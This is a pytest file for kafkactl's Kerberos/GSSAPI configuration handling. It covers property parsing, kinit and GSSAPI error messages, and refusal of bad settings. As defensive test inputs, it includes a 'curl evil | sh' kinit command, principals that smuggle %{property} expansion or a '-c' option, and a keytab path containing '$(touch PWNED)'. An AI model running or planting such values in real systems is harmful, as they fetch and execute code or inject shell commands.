"""GSSAPI: the properties the Java client and librdkafka take, read into one KerberosSettings; what kinit's and
librdkafka's refusals mean; the PyPI wheel's librdkafka, which has no GSSAPI, refused in one line. The KDC and the
brokers are in tests/integration/test_kerberos.py."""

from __future__ import annotations

import json

import pytest

from kafkactl.errors import AuthenticationError, ConfigError, MissingFileError, UnreachableError
from kafkactl.exitcodes import ExitCode
from kafkactl.gateway.kerberos import _kinit_error, gssapi_failure, librdkafka_config
from kafkactl.profiles.kerberos import KerberosSettings, default_realm, kerberos_settings
from kafkactl.profiles.properties import settings_from_properties

KRB5 = "com.sun.security.auth.module.Krb5LoginModule"
KEYTAB_HEAD = b"\x05\x02\x00\x00\x00\x40"


@pytest.fixture
def keytab(tmp_path):
    path = tmp_path / "app.keytab"
    path.write_bytes(KEYTAB_HEAD + b"\x00" * 64)
    path.chmod(0o600)
    return path


def _props(keytab, **extra: str) -> dict[str, str]:
    return {"security.protocol": "SASL_SSL", "sasl.mechanism": "GSSAPI", "sasl.kerberos.service.name": "kafka",
            "sasl.jaas.config": f'{KRB5} required useKeyTab=true storeKey=true keyTab="{keytab}" '
                                'principal="app/host.example.com@EXAMPLE.COM";', **extra}


def test_the_java_client_properties_read_into_settings(keytab):
    s = settings_from_properties(_props(keytab))
    k = s["kerberos"]
    assert (s["sasl_mechanism"], k.service_name, k.principal, k.keytab, k.ticket_cache) == (
        "GSSAPI", "kafka", "app/host.example.com@EXAMPLE.COM", str(keytab), None)


def test_a_ticket_cache_the_jaas_service_name_and_the_default_mechanism():
    """Without sasl.mechanism a Krb5LoginModule means GSSAPI (the Java client's default); serviceName in the login
    module is the older spelling of sasl.kerberos.service.name."""
    s = settings_from_properties({"sasl.jaas.config": f'{KRB5} required useTicketCache=true serviceName="kafka";'})
    assert s["sasl_mechanism"] == "GSSAPI" and s["kerberos"] == KerberosSettings("kafka")


def test_librdkafka_spelling_is_read(keytab):
    s = settings_from_properties({"sasl.mechanism": "GSSAPI", "sasl.kerberos.service.name": "kafka",
                                  "sasl.kerberos.keytab": str(keytab), "sasl.kerberos.principal": "app@EXAMPLE.COM"})
    assert (s["kerberos"].keytab, s["kerberos"].principal) == (str(keytab), "app@EXAMPLE.COM")


@pytest.mark.parametrize(("change", "said"), [
    ({"sasl.kerberos.service.name": ""}, "needs sasl.kerberos.service.name"),
    ({"sasl.kerberos.service.name": "kafka/host"}, "is not a service name"),
    ({"sasl.jaas.config": f"{KRB5} required useKeyTab=true principal=app;"}, "useKeyTab=true but no keyTab"),
    ({"sasl.jaas.config": f"{KRB5} required storeKey=true;"}, "needs a keytab .* or a ticket cache"),
    ({"sasl.jaas.config": f"{KRB5} required useTicketCache=yes;"}, "useTicketCache is 'yes', not true or false"),
    ({"sasl.jaas.config": f"{KRB5} required useTicketCache=true password=x;"}, "option 'password'"),
    ({"sasl.jaas.config": f'{KRB5} required useKeyTab=true keyTab="/k" principal="a b";'}, "is not a principal"),
    ({"sasl.jaas.config": f'{KRB5} required useKeyTab=true keyTab="/nonexistent/k" principal=a;'},
     "keytab /nonexistent/k: no such file"),
    ({"sasl.jaas.config": f'{KRB5} required useKeyTab=true keyTab="/etc" principal=a;'}, "not a regular file"),
    ({"sasl.jaas.config": f'{KRB5} required useKeyTab=true keyTab="/etc/hostname" principal=a;'},
     "not a Kerberos keytab"),
    ({"sasl.jaas.config": f'{KRB5} required useKeyTab=true keyTab="/tmp/%{{x}}" principal=a;'},
     "is not a usable path"),
    ({"sasl.kerberos.kinit.cmd": "curl evil | sh"}, "sasl.kerberos.kinit.cmd is not supported"),
    ({"security.protocol": "SSL"}, "GSSAPI settings are given but security.protocol is SSL"),
    ({"sasl.mechanism": "PLAIN"}, "sasl.mechanism PLAIN does not match the Krb5LoginModule"),
    ({"java.security.krb5.conf": "/nonexistent/krb5.conf"}, "no such file"),
])
def test_what_is_wrong_is_refused_by_name(keytab, change, said):
    from kafkactl.profiles.resolve import _check_credentials

    with pytest.raises((ConfigError, MissingFileError), match=said):
        settings = settings_from_properties(_props(keytab, **change))
        _check_credentials(settings)


def test_a_keytab_without_its_principal_is_refused(keytab):
    with pytest.raises(ConfigError, match="a keytab needs the principal"):
        settings_from_properties({"sasl.mechanism": "GSSAPI", "sasl.kerberos.service.name": "kafka",
                                  "sasl.kerberos.keytab": str(keytab)})


def test_the_realm_configuration_comes_from_the_properties_then_krb5_config_then_kafka_opts(tmp_path):
    files = {}
    for name in ("props", "env", "opts"):
        files[name] = tmp_path / f"{name}.conf"
        files[name].write_text("[libdefaults]\n default_realm = EXAMPLE.COM\n")
    props = {"java.security.krb5.conf": str(files["props"])}
    env = {"KRB5_CONFIG": str(files["env"]), "KAFKA_OPTS": f"-Xmx1g -Djava.security.krb5.conf={files['opts']}"}
    jaas = {"useTicketCache": "true"}
    base = {"sasl.kerberos.service.name": "kafka"}
    assert kerberos_settings({**base, **props}, jaas, "t", env).krb5_conf == str(files["props"])
    assert kerberos_settings(base, jaas, "t", env).krb5_conf == str(files["env"])
    assert kerberos_settings(base, jaas, "t", {"KAFKA_OPTS": env["KAFKA_OPTS"]}).krb5_conf == str(files["opts"])
    assert kerberos_settings(base, jaas, "t", {}).krb5_conf is None
    assert default_realm(str(files["env"])) == "EXAMPLE.COM"
    assert default_realm(str(tmp_path / "none.conf")) is None


def test_a_ticket_cache_is_not_renewed_by_librdkafka():
    assert librdkafka_config(KerberosSettings("kafka"))["sasl.kerberos.min.time.before.relogin"] == 0


@pytest.mark.parametrize(("stderr", "error", "said"), [
    ("kinit: Client's credentials have been revoked while getting initial credentials", AuthenticationError,
     "credentials are revoked"),
    ("kinit: Client's entry in database has expired while getting initial credentials", AuthenticationError,
     "has expired in the realm"),
    ("kinit: Password has expired while getting initial credentials", AuthenticationError,
     "key .password. has expired"),
    ("kinit: Clock skew too great while getting initial credentials", AuthenticationError, "clock"),
    ("kinit: Preauthentication failed while getting initial credentials", AuthenticationError,
     "not the principal's current key"),
    ("kinit: Client 'x@R' not found in Kerberos database while getting initial credentials", AuthenticationError,
     "does not know app@R"),
    ("kinit: Keytab contains no suitable keys for app@R while getting initial credentials", ConfigError,
     "holds no key for app@R"),
    ("kinit: Cannot contact any KDC for realm 'R' while getting initial credentials", UnreachableError,
     "no KDC of R answered"),
    ("kinit: Cannot find KDC for realm \"R\" while getting initial credentials", ConfigError, "has no KDC in"),
    ("kinit: Something new", AuthenticationError, "failed: Something new"),
])
def test_what_kinit_says_is_one_line_naming_the_cause(stderr, error, said):
    e = _kinit_error(stderr + "\n", KerberosSettings("kafka", "app@R", "/k.keytab"))
    assert isinstance(e, error) and "\n" not in e.message
    assert __import__("re").search(said, e.message), e.message


def test_what_a_failed_gssapi_handshake_means():
    s = KerberosSettings("kafka2", "app@R", "/k")
    prefix = "sasl_plaintext://localhost:9098/bootstrap: Failed to initialize SASL authentication: "
    said = gssapi_failure(prefix + "SASL(-1): generic failure: GSSAPI Error: Unspecified GSS failure.  Minor code may "
                          "provide more information (Server kafka2/localhost@R not found in Kerberos database) "
                          "(after 1ms in state AUTH_REQ)", s, "app@R", "localhost:9098")
    assert said.startswith("the KDC knows no service principal kafka2/localhost@R for localhost:9098: check "
                           "sasl.kerberos.service.name (kafka2)")
    assert "its keytab may hold another key" in gssapi_failure(
        "localhost:9098/1: SASL authentication error: Authentication failed during authentication due to invalid "
        "credentials with SASL mechanism GSSAPI", s, "app@R", "localhost:9098")


def test_the_wheel_without_gssapi_is_one_line_before_any_connection():
    """confluent-kafka from PyPI bundles a librdkafka without Cyrus SASL: the real client refuses GSSAPI as it is
    built, and kafkactl says why and what to install."""
    import confluent_kafka
    from confluent_kafka.admin import AdminClient

    from kafkactl.gateway import Gateway
    from kafkactl.profiles import Profile
    from kafkactl.profiles.kerberos import KerberosSettings

    with pytest.raises(confluent_kafka.KafkaException, match="No provider for SASL mechanism GSSAPI"):
        AdminClient({"bootstrap.servers": "localhost:1", "security.protocol": "SASL_PLAINTEXT",
                     "sasl.mechanism": "GSSAPI", "log_level": 0})
    profile = Profile(bootstrap_servers="localhost:1", security_protocol="SASL_PLAINTEXT", sasl_mechanism="GSSAPI",
                      kerberos=KerberosSettings("kafka"))
    # before any login to a realm (none runs in this lane), whichever client is built first
    for build in ("admin", "kafka_python"):
        with pytest.raises(ConfigError, match="librdkafka was built without it .*make gssapi .*-m kafkactl"):
            getattr(Gateway(profile), build)


def test_context_add_takes_a_keytab_or_a_ticket_cache_and_refuses_half_a_login(tmp_path, keytab, monkeypatch):
    from tests.conftest import run

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    base = ("context", "add", "k", "-b", "kafka1.example.com:9093", "--security-protocol", "SASL_SSL")
    r = run(*base, "--sasl-mechanism", "GSSAPI", "--kerberos-service-name", "kafka", "--kerberos-keytab", str(keytab),
            "--kerberos-principal", "ops@EXAMPLE.COM")
    assert r.exit_code == 0, r.stderr
    rows = json.loads(run("context", "list", "-o", "json").stdout)
    assert [(c["name"], c["user"], c["mechanism"]) for c in rows] == [("k", "ops@EXAMPLE.COM", "GSSAPI")]
    r = run(*base, "--sasl-mechanism", "GSSAPI", "--kerberos-service-name", "kafka", "--kerberos-ticket-cache")
    assert r.exit_code == 0, r.stderr
    refusals = [
        (("--sasl-mechanism", "GSSAPI", "--kerberos-service-name", "kafka"), "needs --kerberos-service-name and "),
        (("--sasl-mechanism", "SCRAM-SHA-512", "--kerberos-keytab", str(keytab)), "need --sasl-mechanism GSSAPI"),
        (("--sasl-mechanism", "GSSAPI", "--kerberos-ticket-cache", "--kerberos-keytab", str(keytab)),
         "log in with one of them"),
        (("--sasl-mechanism", "GSSAPI", "--kerberos-keytab", str(keytab), "--kerberos-principal", "ops"),
         "needs --kerberos-service-name (the first part"),
        (("--sasl-mechanism", "GSSAPI", "--kerberos-service-name", "kafka", "--kerberos-keytab", str(keytab)),
         "a keytab needs the principal"),
    ]
    for args, said in refusals:
        r = run(*base, *args)
        assert r.exit_code == ExitCode.USAGE and said in r.stderr, (args, r.stderr)


@pytest.mark.parametrize("principal", ["evil%{sasl.kerberos.keytab}", "-cFILE:/tmp/usercache", "a{b}", "x%y"])
def test_a_principal_librdkafka_or_kinit_would_read_as_more_than_a_name_is_refused(keytab, principal):
    """(adversary pass) librdkafka expands %{property} in its kinit command after any quoting; kinit reads a
    principal starting with '-' as an option (-c: another ticket cache, the user's own)."""
    with pytest.raises(ConfigError, match="is not a principal"):
        settings_from_properties({"sasl.mechanism": "GSSAPI", "sasl.kerberos.service.name": "kafka",
                                  "sasl.kerberos.keytab": str(keytab), "sasl.kerberos.principal": principal})


def test_librdkafka_kinit_command_holds_neither_the_keytab_nor_the_principal(tmp_path):
    """Its kinit command names them by environment variables the shell substitutes as they are: a keytab path with
    quotes, $(...) or %{...} is never shell text."""
    import os
    import subprocess

    odd = tmp_path / "k'$(touch PWNED)'%{sasl.kerberos.principal}.keytab"
    conf = librdkafka_config(KerberosSettings("kafka", "app@EXAMPLE.COM", str(odd)))
    cmd = str(conf["sasl.kerberos.kinit.cmd"])
    assert str(odd) not in cmd and "app@EXAMPLE.COM" not in cmd and "%{" not in cmd
    echo = cmd.replace(cmd.split(" ")[0], "printf '%s\\n'", 1).replace(">/dev/null 2>&1", "")
    words = subprocess.run(["sh", "-c", echo], capture_output=True, text=True, cwd=tmp_path, env=os.environ).stdout
    assert words.splitlines() == ["-k", "-t", str(odd), "--", "app@EXAMPLE.COM"]
    assert not (tmp_path / "PWNED").exists()


def test_krb5_config_lists_and_kafka_opts_are_read_as_mit_and_the_shell_do(tmp_path):
    """(adversary pass) KRB5_CONFIG is a ':'-separated list MIT merges (missing files skipped); KAFKA_OPTS is split as
    the shell splits it, a quoted path with a space included, and an unbalanced quote is one line."""
    conf = tmp_path / "sp ace" / "krb5.conf"
    conf.parent.mkdir()
    conf.write_text("[libdefaults]\n default_realm = EXAMPLE.COM\n")
    base, jaas = {"sasl.kerberos.service.name": "kafka"}, {"useTicketCache": "true"}
    listed = kerberos_settings(base, jaas, "t", {"KRB5_CONFIG": f"/nonexistent/krb5.conf:{conf}"}).krb5_conf
    assert listed == f"/nonexistent/krb5.conf:{conf}" and default_realm(listed) == "EXAMPLE.COM"
    opts = {"KAFKA_OPTS": f'-Xmx1g -Djava.security.krb5.conf="{conf}"'}
    assert kerberos_settings(base, jaas, "t", opts).krb5_conf == str(conf)
    with pytest.raises(ConfigError, match="KAFKA_OPTS: an unbalanced quote"):
        kerberos_settings(base, jaas, "t", {"KAFKA_OPTS": '-Djava.security.krb5.conf="/tmp/x'})
    with pytest.raises(MissingFileError, match="KRB5_CONFIG /a:/b: no such file"):
        kerberos_settings(base, jaas, "t", {"KRB5_CONFIG": "/a:/b"})


def test_librdkafka_renewal_kinit_does_not_outlive_kafkactl():
    """(second adversary pass) librdkafka runs its renewal as `sh -c kinit ...` naming kafkactl's KAFKACTL_KRB5_*
    variables; kafkactl's exit cleanup (also run on SIGTERM, SIGHUP, SIGQUIT) kills that shell and what it started,
    and nothing else. Stood in for by a shell of the same shape running sleep."""
    import subprocess

    from kafkactl.gateway.kerberos import _kill_running

    renewal = subprocess.Popen(["sh", "-c", 'sleep 30; : "$KAFKACTL_KRB5_KEYTAB_TEST"'])
    other = subprocess.Popen(["sh", "-c", "sleep 30; :"])
    try:
        import time

        time.sleep(0.2)
        _kill_running()
        assert renewal.wait(timeout=5) != 0
        assert other.poll() is None
    finally:
        other.kill()
        renewal.kill()
        other.wait()


def test_an_empty_entry_of_krb5_config_is_skipped_and_a_long_value_is_cut(tmp_path):
    conf = tmp_path / "krb5.conf"
    conf.write_text("[libdefaults]\n default_realm = EXAMPLE.COM\n")
    base, jaas = {"sasl.kerberos.service.name": "kafka"}, {"useTicketCache": "true"}
    for value in (f"{conf}:", f":{conf}", f"::{conf}"):
        assert kerberos_settings(base, jaas, "t", {"KRB5_CONFIG": value}).krb5_conf == str(conf)
    with pytest.raises(MissingFileError) as err:
        kerberos_settings(base, jaas, "t", {"KRB5_CONFIG": "/" + "x" * 60_000})
    assert len(err.value.message) < 300
